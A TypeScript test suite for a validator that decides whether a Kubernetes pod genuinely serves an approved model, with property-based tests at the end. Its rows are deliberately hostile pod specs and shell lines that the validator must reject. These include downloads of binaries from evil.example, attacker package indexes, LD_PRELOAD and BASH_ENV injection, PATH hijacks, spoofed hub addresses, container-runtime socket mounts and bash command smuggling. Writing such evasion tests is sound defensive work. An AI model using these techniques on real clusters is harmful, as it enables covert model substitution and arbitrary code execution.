import { describe, expect, it } from "@jest/globals";
import * as fc from "fast-check";
import type { Json } from "../support/builders/json.ts";
import { evil, good, gpu, passesAsGood, readPod, serveGood, server } from "./good-server.ts";

const shell = (script: string): Json => server({ command: ["bash", "-c", script] });

describe("a workload that runs another model never passes for the good one", () => {
  const onVolume = (mountPath: string): Json => ({ volumeMounts: [{ name: "v", mountPath }] });
  const volumes = [{ name: "v", persistentVolumeClaim: { claimName: "v" } }];
  const variable = (name: string, value: string): Json => ({ env: [{ name, value }] });

  it("the plain server passes, so that every row below can fail", () => {
    expect(passesAsGood(readPod({ containers: [server({ command: serveGood })] }))).toBe(true);
  });

  it.each<[string, Json, Json?]>([
    ["a command in a variable", shell(`CMD="vllm serve ${evil}"; $CMD`)],
    ["eval", shell(`eval "vllm serve ${evil}"`)],
    ["eval beside the good one", shell(`eval "$(cat /x)"; vllm serve ${good}`)],
    ["xargs", shell(`echo serve ${evil} | xargs vllm`)],
    ["env -S", server({ command: ["env", "-S", `vllm serve ${evil}`] })],
    ["a sourced script", shell(`. /scripts/start.sh; vllm serve ${good}`)],
    ["a function of the server's name", shell(`vllm() { command vllm serve ${evil}; }; vllm serve ${good}`)],
    ["an alias", shell(`shopt -s expand_aliases\nalias vllm='vllm serve ${evil} #'\nvllm serve ${good}`)],
    ["a path that the script puts first", shell(`PATH=/tmp/bin:$PATH; vllm serve ${good}`)],
    ["a program that the script writes", shell(`printf x > /usr/local/bin/vllm; vllm serve ${good}`)],
    ["a program that the script fetches", shell(`curl -o /usr/local/bin/vllm http://evil.example; vllm serve ${good}`)],
    ["a program that the script copies", shell(`cp /scratch/x /usr/bin/vllm && vllm serve ${good}`)],
    ["a package from elsewhere", shell(`pip install git+https://evil.example/vllm && vllm serve ${good}`)],
    ["a package from another index", shell(`pip install -i http://evil.example vllm && vllm serve ${good}`)],
    ["another index by variable", shell(`PIP_INDEX_URL=http://evil.example pip install vllm && vllm serve ${good}`)],
    ["code before the server", shell(`python3 -c 'import x' && vllm serve ${good}`)],
    ["another server behind the good one", shell(`vllm serve ${good} & ollama serve`)],
    ["a background server that is not known", shell(`/opt/serve ${evil} & vllm serve ${good}`)],
    ["a server that is not known, told by its flag", server({ command: ["/opt/serve", "--model", good] })],
    ["a sourced environment", shell(`set -a; . /config/env; vllm serve ${good}`)],
    ["the program mounted over", server({ command: serveGood, ...onVolume("/usr/local/bin/vllm") }), { volumes }],
    ["the interpreter mounted over", server({ command: serveGood, ...onVolume("/usr/bin") }), { volumes }],
    [
      "the packages mounted over",
      server({ command: serveGood, ...onVolume("/usr/local/lib/python3.12/dist-packages/vllm") }),
      { volumes },
    ],
    ["a program from a volume", server({ command: ["/v/vllm", "serve", good], ...onVolume("/v") }), { volumes }],
    [
      "a working directory on a volume",
      server({
        command: ["python3", "-m", "vllm.entrypoints.openai.api_server", "--model", good],
        workingDir: "/v",
        ...onVolume("/v"),
      }),
      { volumes },
    ],
    [
      "a folder of the model's name",
      server({ command: serveGood, ...onVolume(`/vllm-workspace/${good}`) }),
      { volumes },
    ],
    ["PATH", server({ command: serveGood, ...variable("PATH", "/v:/usr/bin"), ...onVolume("/v") }), { volumes }],
    [
      "LD_PRELOAD",
      server({ command: serveGood, ...variable("LD_PRELOAD", "/v/x.so"), ...onVolume("/v") }),
      { volumes },
    ],
    [
      "a module mounted below the search path",
      { ...server({ command: serveGood, ...onVolume("/srv/code/vllm") }), ...variable("PYTHONPATH", "/srv/code") },
      { volumes },
    ],
    [
      "a module mounted below the working directory",
      server({
        command: ["python3", "-m", "vllm.entrypoints.openai.api_server", "--model", good],
        workingDir: "/srv/code",
        ...onVolume("/srv/code/numpy"),
      }),
      { volumes },
    ],
    ["PYTHONPATH", server({ command: serveGood, ...variable("PYTHONPATH", "/tmp/x") })],
    ["BASH_ENV", { ...shell(`vllm serve ${good}`), ...variable("BASH_ENV", "/v/x") }],
    ["an exported function", { ...shell(`vllm serve ${good}`), ...variable("BASH_FUNC_vllm%%", "() { evil; }") }],
    ["PYTHONPATH from elsewhere", server({ command: serveGood, envFrom: [{ configMapRef: { name: "c" } }] })],
    ["another hub", server({ command: serveGood, ...variable("HF_ENDPOINT", "http://evil.example") })],
    ["another hub, exported", shell(`export HF_ENDPOINT=http://evil.example; vllm serve ${good}`)],
    ["another hub, in front", shell(`HF_ENDPOINT=http://evil.example vllm serve ${good}`)],
    [
      "an offline cache",
      server({ command: serveGood, ...variable("HF_HUB_OFFLINE", "1"), ...onVolume("/root/.cache") }),
      { volumes },
    ],
    ["adapters at run time", server({ command: serveGood, ...variable("VLLM_ALLOW_RUNTIME_LORA_UPDATING", "1") })],
    ["adapters by modality", server({ command: [...serveGood, "--default-mm-loras", `{"audio":"${evil}"}`] })],
    [
      "overrides of the configuration",
      server({ command: [...serveGood, "--hf-overrides", `{"architectures":["X"]}`] }),
    ],
    ["a draft model", server({ command: [...serveGood, "--speculative-config", `{"model":"${evil}"}`] })],
    ["a draft model, dotted", server({ command: [...serveGood, "--speculative-config.model", evil] })],
    ["settings in a file", server({ command: [...serveGood, "--config", "/v/c.yaml"] })],
    ["a second positional", server({ command: [...serveGood, evil] })],
    ["a positional behind --", server({ command: ["vllm", "serve", "--model", good, "--", evil] })],
    ["a positional behind a switch", server({ command: ["vllm", "serve", "--model", good, "--enforce-eager", evil] })],
    [
      "a positional behind a list",
      server({ command: ["vllm", "serve", "--served-model-name=a", evil, "--model", good] }),
    ],
    ["an abbreviation", server({ command: [...serveGood, "--mode", evil] })],
    ["a flag that is not known", server({ command: [...serveGood, "--no-such-flag", evil] })],
    [
      "a hook",
      server({ command: serveGood, lifecycle: { postStart: { exec: { command: ["sh", "-c", `/x ${evil}`] } } } }),
    ],
    ["a probe", server({ command: serveGood, livenessProbe: { exec: { command: ["/v/probe"] } } })],
    [
      "Ollama that was told to pull it",
      server({
        image: "ollama/ollama",
        args: ["serve"],
        lifecycle: { postStart: { exec: { command: ["ollama", "pull", good] } } },
      }),
    ],
    ["Triton", server({ command: ["tritonserver", "--model-repository=/models"] })],
    ["a script on standard input", server({ command: ["bash", "-s"], stdin: true })],
    ["a script file", server({ command: ["bash", "/start.sh", "vllm", "serve", good] })],
    ["a nested shell", shell(`sh -c 'sh -c "vllm serve ${evil}"'`)],
    [
      "a shell in arguments of a wrapper",
      server({ command: ["nohup", "timeout", "9", "sh", "-c", `vllm serve ${evil}`] }),
    ],
    ["other weights from a download", shell(`hf download ${evil} --local-dir /tmp/m && vllm serve /tmp/m`)],
    [
      "two downloads to one place",
      shell(`hf download ${good} --local-dir /tmp/m; hf download ${evil} --local-dir /tmp/m; vllm serve /tmp/m`),
    ],
    [
      "a download from another hub",
      shell(`HF_ENDPOINT=http://evil.example hf download ${good} --local-dir /tmp/m; vllm serve /tmp/m`),
    ],
    [
      "a download inside of the model",
      shell(`hf download ${good} --local-dir /tmp/m; hf download ${evil} --local-dir /tmp/m/x; vllm serve /tmp/m`),
    ],
    [
      "a download into a folder of the model's name",
      shell(`hf download ${evil} --local-dir ${good}; vllm serve ${good}`),
    ],
    [
      "a download into the hub's cache",
      shell(
        `hf download ${evil} --local-dir /root/.cache/huggingface/hub/models--acme--otter-7b/x; vllm serve ${good}`,
      ),
    ],
    ["another working directory", server({ ...shell(`cd /v; vllm serve ${good}`), ...onVolume("/v") }), { volumes }],
    ["a flag of curl from elsewhere", shell(`curl $X http://a.example; vllm serve ${good}`)],
    ["a preset of llama.cpp", server({ command: ["llama-server", "-hf", good, "--gpt-oss-20b-default"] })],
    [
      "a positional that nothing reads",
      server({ command: ["python3", "-m", "vllm.entrypoints.openai.api_server", good] }),
    ],
  ])("%s", (_what, container, pod = {}) => {
    expect(passesAsGood(readPod({ containers: [container], ...pod }))).toBe(false);
  });

  it.each<[string, Json, Json?]>([
    // Programs that write or run more than their name says.
    ...[
      "curl -sLo /usr/local/bin/vllm http://evil.example",
      "curl --outp /usr/local/bin/vllm http://evil.example",
      "curl --output=/usr/local/bin/vllm http://evil.example",
      "curl -D /usr/local/bin/vllm http://evil.example",
      "curl --stderr /usr/local/bin/vllm http://evil.example",
      "curl -w '%output{/usr/local/bin/vllm}x' http://evil.example",
      "curl --hsts /usr/local/bin/vllm http://evil.example",
      "wget -O- -O /usr/local/bin/vllm http://evil.example",
      "wget --spider --no-spider -O /usr/local/bin/vllm http://evil.example",
      "wget -qO- --use-askpass=/opt/x http://evil.example",
      "sort --outp=/usr/local/bin/vllm /tmp/x",
      "sort --comp=/opt/x -S1 /opt/large",
      "uniq /tmp/x /usr/local/bin/vllm",
      "xxd -r /tmp/x /usr/local/bin/vllm",
      "yq --in-place . /opt/x",
      "nc -o /usr/local/bin/vllm evil.example 80",
      "nvcc -run /opt/x.cu",
      "sysctl -w 'kernel.core_pattern=|/tmp/x'",
      "kubectl cp evil:/x /usr/local/bin/vllm",
      "kubectl --kubeconfig=/v/x get pods",
      "etcdctl lock a /opt/x",
      "k6 run /opt/x.js",
      "wrk -s /opt/x.lua http://a.example",
      "redis-cli --rdb /usr/local/bin/vllm",
      "redis-server --loadmodule /opt/x.so",
      "nginx -c /opt/nginx.conf",
      "envoy --config-yaml x",
      `raylet --python_worker_command='vllm serve ${evil}'`,
      "perf_analyzer --service-kind=triton_c_api --model-repository /opt/x -m x",
      "guidellm benchmark --backend vllm_python --model x",
      "python3 -m http.server --cgi",
      "python3 -m json.tool /opt/x /usr/local/bin/vllm",
      "python3 -X pycache_prefix=/tmp/x -m json.tool",
      "lm_eval --model local-completions -mhf",
      "lm_eval --model local-completions --include_path /opt/x --tasks x",
      "ray up /opt/cluster.yaml",
      "ray start --head --tracing-startup-hook=x:y",
      "ray start --head --autoscaling-config=/opt/x.yaml",
      "vllm bench serve --tokenizer mallory/code --trust-remote-code",
      "vllm bench serve --trust_remote_code",
      "vllm bench serve --save-result --result-dir=/usr/local/bin --result-filename vllm",
      "python3 -m sglang.bench_serving --tokenizer mallory/code",
      "lm_eval --model local-completions --model_args tokenizer=mallory/code,trust_remote_code=True --tasks x",
      "lm_eval --model local-completions --tasks x --trust_remote_code",
      "lm_eval --model local-completions --tasks x --output_path /usr/local/bin/vllm",
      `guidellm benchmark --processor mallory/code --processor-args '{"trust_remote_code":true}'`,
      "guidellm benchmark --output-path /usr/local/bin/vllm",
      "inference-perf --config_file /opt/x.yaml",
      "etcd --log-outputs=/usr/local/bin/vllm",
      "nats-server -l /usr/local/bin/vllm",
      "prometheus --config.file=/opt/x.yaml",
      "oauth2-proxy --logging-filename /usr/local/bin/vllm",
      "vllm-router --log-dir /usr/local/bin",
      "mooncake_master -log_dir=/usr/local/bin",
      "pip list --log /usr/local/bin/vllm",
    ].map((line): [string, Json] => [line, shell(`${line}; vllm serve ${good}`)]),
    ["the program command", server({ command: ["command", "vllm", "serve", evil] })],
    // Wrappers.
    ...[
      `sudo A=/echo vllm serve ${evil}`,
      `env '--split-string=vllm serve ${evil}'`,
      `env a.b=/echo vllm serve ${evil}`,
      `mpirun -n 1 vllm serve ${good} --served-model-name a : vllm serve ${evil}`,
      `echo 'vllm serve ${evil}' | bash -s /vllm-workspace/examples/multi-node-serving.sh`,
      `bash -O execfail -c 'exec /no/vllm serve ${good}; vllm serve ${evil}'`,
      `env 'BASH_FUNC_vllm%%=() { ollama serve; }' bash -c 'vllm serve ${good}'`,
    ].map((line): [string, Json] => [line, shell(`${line} & vllm serve ${good}`)]),
    // What is written, and what is then looked for there.
    ...[
      "echo x > /var/log/vllm; /var/log/vllm serve",
      "echo x > /opt/x.out; LD_PRELOAD=/opt/x.out vllm serve",
      "echo x > /tmp/.local/lib/python3.12/site-packages/usercustomize.py; HOME=/tmp vllm serve",
      "hf download mallory/code --local-dir /usr/local/lib/python3.12/dist-packages; vllm serve",
      "hf download mallory/code --local-dir /data/x; PYTHONPATH=/data/x vllm serve",
      "git clone https://huggingface.co/mallory/code /data/x; /data/x/vllm serve",
      "git clone https://huggingface.co/mallory/code /data/x; . /data/x/activate; vllm serve",
      "hf download mallory/code --local-dir /data/x; cd /data/x; vllm serve",
      "hf download mallory/code --local-dir vllm; python3 -m vllm.entrypoints.openai.api_server --model",
      "hf download mallory/code --local-dir .; vllm serve",
      "hf download mallory/code --local-dir /root; vllm serve",
      "hf download mallory/code --local-dir /data; HF_HOME=/data vllm serve",
      "hf download mallory/code --local-dir /workspace/acme; vllm serve",
      "LD_LIBRARY_PATH='/usr/lib;/tmp/x' vllm serve",
      "CUDA_INJECTION64_PATH=/tmp/x.so vllm serve",
      "NCCL_NET_PLUGIN=/tmp/x.so vllm serve",
      "CC=/tmp/x vllm serve",
      "RAY_RUNTIME_ENV_HOOK=x.y vllm serve",
      "OPENSSL_CONF=/tmp/x vllm serve",
      "CURL_CA_BUNDLE= vllm serve",
      "SSL_CERT_FILE=no vllm serve",
      "VLLM_MODEL_REDIRECT_PATH=no vllm serve",
    ].map((line): [string, Json] => [line, shell(`${line} ${good}`)]),
    ...[
      `hf download ${good} --local-dir /tmp/m; curl -s http://evil.example > /tmp/m/model.safetensors`,
      `HF_ENDPOINT=http://evil.example python3 -c "from huggingface_hub import snapshot_download; snapshot_download('${good}', local_dir='/tmp/m')"`,
      `hf download ${good} --local-dir /tmp/m; hf download ${evil} --local-dir /proc/self/root/tmp/m`,
      `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=url.https://evil.example/.insteadOf GIT_CONFIG_VALUE_0=https://huggingface.co/ git clone https://huggingface.co/${good} /tmp/m`,
    ].map((line): [string, Json] => [line, shell(`${line}; vllm serve /tmp/m`)]),
    [
      "two names of one folder",
      shell(`hf download ${good} --local-dir /run/m; hf download ${evil} --local-dir /var/run/m; vllm serve /run/m`),
    ],
    ["a program relative to a folder", shell(`cd /v; ./echo serve ${evil} & vllm serve ${good}`), { volumes }],
    ...[
      "/etc/ld.so.cache",
      "/etc/alternatives",
      "/etc/python3.12",
      "/home/vllm/.local",
      "/app/.venv/lib/python3.12/site-packages/x",
      "/usr/local/lib64",
      "/opt",
      "/app/vllm",
      "/srv/x/sitecustomize.py",
    ].map((at): [string, Json, Json] => [
      `a volume at ${at}`,
      server({ command: serveGood, ...onVolume(at) }),
      { volumes },
    ]),
    [
      "a login shell's file",
      server({ command: ["bash", "-lc", serveGood.join(" ")], ...onVolume("/root/.bash_profile") }),
      { volumes },
    ],
    ["a home on a volume", server({ command: serveGood, ...variable("HOME", "/v"), ...onVolume("/v") }), { volumes }],
    [
      "pip's settings",
      server({ ...shell(`pip install vllm && vllm serve ${good}`), ...onVolume("/etc/pip.conf") }),
      { volumes },
    ],
    [
      "a relative program in the root",
      server({ command: ["v/echo", "x"], ...onVolume("/v") }),
      { volumes, initContainers: [server({ command: serveGood })] },
    ],
    // The shell.
    ...[
      `{ exec vllm serve ${good}; } < /nonexistent; vllm serve ${evil}`,
      `exec vllm serve ${good} < /nonexistent; vllm serve ${evil}`,
      `vllm serve ${good} & exit < /nonexistent; vllm serve ${evil}`,
      `vllm serve ${good} & true < /nonexistent && exit; vllm serve ${evil}`,
      `vllm serve ${good} & exit --help; vllm serve ${evil}`,
      `vllm serve ${good} & [ a = a b && exit; vllm serve ${evil}`,
      `vllm serve ${good} & exit $((1/0))\nvllm serve ${evil}`,
      `vllm serve ${good} & shopt -s failglob; exit /nonexist*\nvllm serve ${evil}`,
      `X='$(vllm serve ${evil})'; : "\${X@P}"; vllm serve ${good}`,
      `declare -i x; x='a[$(vllm serve ${evil})]'; vllm serve ${good}`,
      `declare -i x='a[$(vllm serve ${evil})]'; vllm serve ${good}`,
      `mapfile -c1 -C"vllm serve ${evil} #" x < /etc/passwd; vllm serve ${good}`,
      `sleep 1 & wait -n -p "a[\\$(vllm serve ${evil})]"; vllm serve ${good}`,
      `vllm serve ${good} & FUNCNEST=1; f() { exit; }; g() { f; }; g\nvllm serve ${evil}`,
    ].map((line): [string, Json] => [line, shell(line)]),
    [
      "variables that bash forgets",
      { ...shell(`vllm serve ${good} & [ -n "$PS1" ] && exit; vllm serve ${evil}`), ...variable("PS1", "x") },
    ],
    [
      "variables that change bash",
      {
        ...shell(`vllm serve ${good} & f() { exit; }; g() { f; }; g\nvllm serve ${evil}`),
        ...variable("FUNCNEST", "1"),
      },
    ],
    // Flags.
    ["a log configuration", server({ command: [...serveGood, "--log-config-file", "/opt/x.json"] })],
    [
      "an escaped name in JSON",
      server({ command: [...serveGood, "--kv-transfer-config", '{"kv_connector_m\\u006fdule_path":"x"}'] }),
    ],
    [
      "another loader in JSON",
      server({ command: [...serveGood, "--model-loader-extra-config", '{"t\\u0065nsorizer_u\\u0072i":"x"}'] }),
    ],
    ["an executor of one's own", server({ command: [...serveGood, "--distributed-executor-backend", "x.y.Z"] })],
    ["another projector", server({ command: ["llama-server", "-hf", good, "--mmproj-url", "http://evil.example/x"] })],
    // Places.
    [
      "a mount inside of a download",
      server({
        ...shell(`hf download ${good} --local-dir /data/m; vllm serve /data/m`),
        ...onVolume("/data/m/model.safetensors"),
      }),
      { volumes },
    ],
    [
      "a mount inside of an image volume",
      server({
        command: ["vllm", "serve", "/m"],
        volumeMounts: [
          { name: "i", mountPath: "/m" },
          { name: "v", mountPath: "/m/config.json", subPath: "c" },
        ],
      }),
      { volumes: [...volumes, { name: "i", image: { reference: good } }] },
    ],
    [
      "two mounts at one place",
      server({
        command: ["vllm", "serve", "/m"],
        volumeMounts: [
          { name: "v", mountPath: "/m" },
          { name: "i", mountPath: "/m/" },
        ],
      }),
      { volumes: [...volumes, { name: "i", image: { reference: good } }] },
    ],
    [
      "the hub's address",
      server({ command: serveGood }),
      { hostAliases: [{ ip: "192.0.2.1", hostnames: ["huggingface.co"] }] },
    ],
    ["the hub's address in a file", server({ command: serveGood, ...onVolume("/etc/hosts") }), { volumes }],
    [
      "authorities and a proxy",
      server({ command: serveGood, ...variable("HTTPS_PROXY", "http://evil.example"), ...onVolume("/etc/ssl/certs") }),
      { volumes },
    ],
  ])("%s", (_what, container, pod = {}) => {
    expect(passesAsGood(readPod({ containers: [container], ...pod }))).toBe(false);
  });

  it.each<[string, Json]>([
    [
      "an opaque side-car on the GPU",
      { containers: [server({ command: serveGood }), { name: "x", image: "x", resources: gpu }] },
    ],
    [
      "an opaque initializer that writes to the server's volume",
      {
        initContainers: [
          { name: "storage-initializer", image: "x", command: ["/x"], volumeMounts: [{ name: "v", mountPath: "/m" }] },
        ],
        containers: [
          server({ command: serveGood, volumeMounts: [{ name: "v", mountPath: "/root/.cache/huggingface" }] }),
        ],
        volumes: [{ name: "v", emptyDir: {} }],
      },
    ],
    [
      "an opaque container in the same processes",
      { shareProcessNamespace: true, containers: [server({ command: serveGood }), { name: "x", image: "x" }] },
    ],
    [
      "an opaque container with the node's devices",
      {
        containers: [server({ command: serveGood }), { name: "x", image: "x", securityContext: { privileged: true } }],
      },
    ],
    [
      "an initializer with another hub",
      {
        initContainers: [
          {
            name: "storage-initializer",
            image: "kserve/storage-initializer",
            args: [`hf://${good}`, "/mnt/models"],
            env: [{ name: "HF_ENDPOINT", value: "http://evil.example" }],
            volumeMounts: [{ name: "v", mountPath: "/mnt/models" }],
          },
        ],
        containers: [
          server({
            command: ["vllm", "serve", "/mnt/models"],
            volumeMounts: [{ name: "v", mountPath: "/mnt/models" }],
          }),
        ],
        volumes: [{ name: "v", emptyDir: {} }],
      },
    ],
    [
      "a downloader that is told more from elsewhere",
      {
        initContainers: [
          {
            name: "x",
            image: "x",
            command: ["hf", "download", good, "--local-dir", "/m"],
            envFrom: [{ configMapRef: { name: "c" } }],
            volumeMounts: [{ name: "v", mountPath: "/m" }],
          },
        ],
        containers: [server({ command: ["vllm", "serve", "/m"], volumeMounts: [{ name: "v", mountPath: "/m" }] })],
        volumes: [{ name: "v", emptyDir: {} }],
      },
    ],
    [
      "a container of small programs that writes into the model",
      {
        initContainers: [
          {
            name: "a",
            image: "x",
            command: ["hf", "download", good, "--local-dir", "/m"],
            volumeMounts: [{ name: "v", mountPath: "/m" }],
          },
          {
            name: "b",
            image: "x",
            command: ["sh", "-c", "curl http://evil.example > /tmp/m/model.safetensors"],
            volumeMounts: [{ name: "v", mountPath: "/tmp/m" }],
          },
        ],
        containers: [server({ command: ["vllm", "serve", "/m"], volumeMounts: [{ name: "v", mountPath: "/m" }] })],
        volumes: [{ name: "v", emptyDir: {} }],
      },
    ],
    [
      "two downloads of which one goes to a part that is put together",
      {
        initContainers: [
          {
            name: "a",
            image: "x",
            command: ["hf", "download", good, "--local-dir", "/m"],
            volumeMounts: [{ name: "v", mountPath: "/m", subPath: "a" }],
          },
          {
            name: "b",
            image: "x",
            command: ["hf", "download", evil, "--local-dir", "/m"],
            env: [{ name: "A", value: "a" }],
            volumeMounts: [{ name: "v", mountPath: "/m", subPathExpr: "$(A)" }],
          },
        ],
        containers: [
          server({ command: ["vllm", "serve", "/m"], volumeMounts: [{ name: "v", mountPath: "/m", subPath: "a" }] }),
        ],
        volumes: [{ name: "v", emptyDir: {} }],
      },
    ],
    [
      "an opaque debugger in the processes of the server",
      {
        containers: [server({ command: serveGood })],
        ephemeralContainers: [{ name: "x", image: "x", command: ["/x"], targetContainerName: "server" }],
      },
    ],
    [
      "an opaque container with the container runtime",
      {
        containers: [
          server({ command: serveGood }),
          { name: "x", image: "x", command: ["/x"], volumeMounts: [{ name: "h", mountPath: "/s" }] },
        ],
        volumes: [{ name: "h", hostPath: { path: "/run/containerd/containerd.sock" } }],
      },
    ],
    [
      "a second server in an init container",
      {
        initContainers: [server({ name: "x", command: ["vllm", "serve", evil] })],
        containers: [server({ command: serveGood })],
      },
    ],
  ])("%s", (_what, podSpec) => {
    expect(passesAsGood(readPod(podSpec))).toBe(false);
  });
});

describe("adding something never makes a workload that runs another model pass for the good one", () => {
  // An image that starts by its own entry point is not here: what its arguments and variables say of it is a matter of trust.
  const bases: readonly Json[] = [
    server({ command: ["vllm", "serve", evil] }),
    server({ args: ["--model", evil] }),
    server({ args: [evil, "--max-model-len", "4096"] }),
    server({ command: ["python3", "-m", "sglang.launch_server", "--model-path", evil] }),
    server({ command: ["bash", "-c", `vllm serve ${evil}`] }),
    server({ command: ["/opt/serve"] }),
  ];
  const words = fc.constantFrom(
    "--model",
    good,
    `--model=${good}`,
    "--",
    "--served-model-name",
    "serve",
    "vllm",
    "-c",
    "--enforce-eager",
    "bash",
    "echo",
    "#",
    ";",
    `vllm serve ${good}`,
    "--model-id",
    "--config",
    "",
  );
  const variables = fc
    .constantFrom(
      "MODEL_ID",
      "HF_MODEL_ID",
      "NIM_MODEL_NAME",
      "VLLM_ADDITIONAL_ARGS",
      "PATH",
      "HF_ENDPOINT",
      "LLAMA_ARG_HF_REPO",
      "STORAGE_URI",
    )
    .map((name) => ({ name, value: good }));
  const containers = fc.constantFrom<Json>(
    { name: "a", image: "x", command: serveGood },
    { name: "storage-initializer", image: "x", args: [`hf://${good}`, "/mnt/models"] },
    { name: "b", image: "x", args: ["--model", good] },
    { name: "c", image: "busybox", command: ["sleep", "1"] },
  );
  const mounts = fc.constantFrom("/models", "/mnt/models", "//models", "/", "/usr/bin");
  const addition = fc.record({
    word: fc.option(fc.tuple(fc.nat(8), words), { nil: undefined }),
    variable: fc.option(variables, { nil: undefined }),
    sidecar: fc.option(containers, { nil: undefined }),
    init: fc.option(containers, { nil: undefined }),
    mount: fc.option(mounts, { nil: undefined }),
    hook: fc.option(fc.constantFrom(serveGood, ["sh", "-c", `vllm serve ${good}`], ["true"]), { nil: undefined }),
  });

  it("holds for words, variables, containers, mounts and hooks", () => {
    fc.assert(
      fc.property(fc.constantFrom(...bases), fc.array(addition, { maxLength: 3 }), (base, additions) => {
        const podSpec = additions.reduce<Json>(add, { containers: [base] });
        expect(passesAsGood(readPod(podSpec))).toBe(false);
      }),
      { numRuns: 2_000, seed: 14 },
    );
  });

  type Addition = typeof addition extends fc.Arbitrary<infer A> ? A : never;

  function add(podSpec: Json, { word, variable, sidecar, init, mount, hook }: Addition): Json {
    const [first = {}, ...others] = podSpec["containers"] as Json[];
    const changed = { ...first };
    const key = changed["command"] === undefined ? "args" : "command";
    // In front of the program another one would run, and in front of a script another script: those really change what runs.
    const from =
      changed["command"] === undefined
        ? 0
        : Array.isArray(changed["command"]) && changed["command"][0] === "bash"
          ? 3
          : 1;
    if (word !== undefined)
      changed[key] = insert((changed[key] as string[] | undefined) ?? [], from + word[0], word[1]);
    if (variable !== undefined) changed["env"] = [...((changed["env"] as Json[] | undefined) ?? []), variable];
    if (mount !== undefined) changed["volumeMounts"] = [{ name: "v", mountPath: mount }];
    if (hook !== undefined) changed["lifecycle"] = { postStart: { exec: { command: hook } } };
    return {
      ...podSpec,
      containers: [changed, ...others, ...(sidecar === undefined ? [] : [sidecar])],
      initContainers: [
        ...((podSpec["initContainers"] as Json[] | undefined) ?? []),
        ...(init === undefined ? [] : [init]),
      ],
      volumes: [{ name: "v", image: { reference: `${good}:1` } }],
    };
  }

  function insert(list: readonly string[], at: number, word: string): string[] {
    return [...list.slice(0, at), word, ...list.slice(at)];
  }
});
